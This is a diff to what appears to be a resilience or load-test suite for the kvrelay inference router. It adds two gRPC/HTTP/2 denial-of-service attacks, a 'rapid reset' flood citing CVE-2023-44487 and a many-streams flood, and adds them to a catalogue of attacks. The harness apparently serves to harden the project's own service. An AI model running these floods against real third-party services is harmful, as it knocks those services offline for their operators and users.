@@ -14,6 +14,7 @@ from itertools import count
 from typing import Any
 
 import grpc
+from http2_peer import Http2Peer
 
 from kvrelay.wire.inference import InferenceServiceStub, pb
 
@@ -21,6 +22,7 @@ CONNECTIONS = 1000
 # Concurrent calls on one gRPC connection.
 CALLS = 16
 BYTES_PER_SECOND = 50e6
+GENERATE = "/kvrelay.v1.InferenceService/Generate"
 # Bytes of the largest body or message. The router accepts 4 MiB.
 MOST = 4 * 2**20 - 4096
 
@@ -195,9 +197,7 @@ def _calls(message: pb.GenerateRequest, least_s: float = 0.0) -> Attack:
 
     async def attack(target: Target, bandwidth: Bandwidth, number: int) -> None:
         async with grpc.aio.insecure_channel(target.grpc) as channel:
-            generate = channel.unary_stream(
-                "/kvrelay.v1.InferenceService/Generate", request_serializer=lambda raw: raw
-            )
+            generate = channel.unary_stream(GENERATE, request_serializer=lambda raw: raw)
             while True:
                 await bandwidth.take(len(data))
                 with contextlib.suppress(grpc.aio.AioRpcError):
@@ -228,6 +228,38 @@ async def _grpc_strangers(target: Target, bandwidth: Bandwidth, number: int) -> 
 
     async with grpc.aio.insecure_channel(target.grpc) as channel:
         await asyncio.gather(*(call(InferenceServiceStub(channel)) for _ in range(CALLS)))
+
+
+async def _resets(target: Target, bandwidth: Bandwidth, number: int) -> None:
+    """Begins calls and cancels them at once ("rapid reset", CVE-2023-44487)."""
+    await _streams(target, bandwidth, lambda peer, stream: peer.reset(stream))
+
+
+async def _many_streams(target: Target, bandwidth: Bandwidth, number: int) -> None:
+    """Begins as many calls as fast as the connection allows."""
+    await _streams(target, bandwidth, lambda peer, stream: None)
+
+
+async def _streams(
+    target: Target, bandwidth: Bandwidth, then: Callable[[Http2Peer, int], None]
+) -> None:
+    message = pb.GenerateRequest(model="demo", prompt="a").SerializeToString()
+
+    async def read(peer: Http2Peer) -> None:
+        while True:
+            await peer.credits()
+
+    peer = await Http2Peer.connect(target.grpc)
+    reading = asyncio.create_task(read(peer))
+    try:
+        while not reading.done():
+            await bandwidth.take(CALLS * 250)
+            for _ in range(CALLS):
+                then(peer, peer.call(GENERATE, target.token, message))
+            await peer.drain()
+    finally:
+        reading.cancel()
+        peer.close()
 
 
 def _empty_messages() -> pb.GenerateRequest:
@@ -267,6 +299,8 @@ CATALOGUE: dict[str, tuple[Attack, int]] = {
     ),
     "grpc list models": (_lists, 64),
     "grpc strangers": (_grpc_strangers, 64),
+    "grpc rapid resets": (_resets, 4),
+    "grpc many streams": (_many_streams, 4),
     "json duplicate keys": (_repeated("/v1/completions", _duplicate_keys()), 64),
     "json many objects": (_repeated("/v1/chat/completions", _many_objects()), 64),
     "json deep": (_repeated("/v1/completions", _deep()), 64),
